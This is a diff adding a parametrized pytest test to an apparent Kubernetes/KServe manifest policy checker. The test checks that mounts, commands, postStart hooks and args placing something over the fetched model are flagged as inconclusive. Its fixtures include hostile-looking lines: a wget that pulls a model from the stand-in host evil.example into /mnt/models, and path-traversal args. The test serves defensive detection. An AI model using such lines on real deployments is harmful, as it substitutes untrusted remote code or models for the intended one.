@@ -235,6 +235,38 @@ def test_a_container_beside_the_server_may_run_a_model_too(
     assert checked == [f"inferenceservice/counter{one}" for one in ids]
 
 
+OTHER = "volumes: [{name: o, hostPath: {path: /srv/other}}]"
+OVER = "volumeMounts: [{name: o, mountPath: %s}]"
+WGET = "wget -O /mnt/models/model.onnx http://evil.example/latest"
+
+
+@pytest.mark.parametrize(
+    ("line", "code"),
+    [
+        (OVER % "/mnt/models/model.onnx, subPath: evil.bin", 5),
+        (OVER % "/mnt/models", 5),
+        (OVER % "/mnt/models/1/", 5),
+        (OVER % "/mnt", 0),
+        (OVER % "/mnt/models-b", 0),
+        ("volumeMounts: ['{{ mount }}']", 5),
+        (f'command: [sh, -c, "{WGET} && serve"]', 5),
+        ('command: [sh, -c, "wget -P /mnt/models/1 http://evil.example/x && serve"]', 5),
+        ('command: [sh, -c, "wget -O /tmp/labels http://h/x && serve"]', 0),
+        (f"lifecycle: {{postStart: {{exec: {{command: [sh, -c, '{WGET}']}}}}}}", 5),
+        ('args: ["--model_dir=/mnt/models-b/other"]', 5),
+        ('args: ["--model_dir=/mnt/models/../other"]', 5),
+        ('args: ["--model_dir=/mnt/models/", "--model_name=counter"]', 0),
+        ('args: ["--model", "/mnt/models/model.onnx"]', 0),
+    ],
+)
+def test_what_is_put_over_the_model_that_kserve_fetches_is_not_known(
+    told: Told, line: str, code: int
+) -> None:
+    limited = ONNX % f"{LIMIT}, {line}"
+    got, rules, _ = told(SERVICE % f"{limited}\n    {OTHER}")
+    assert (got, rules.get("PLC702")) == (code, "inconclusive" if code else None)
+
+
 def test_a_worker_of_sedna_always_runs_a_model(told: Told) -> None:
     _, rules, ids = told(JOINT)
     assert rules["PLC702"] == "inconclusive"
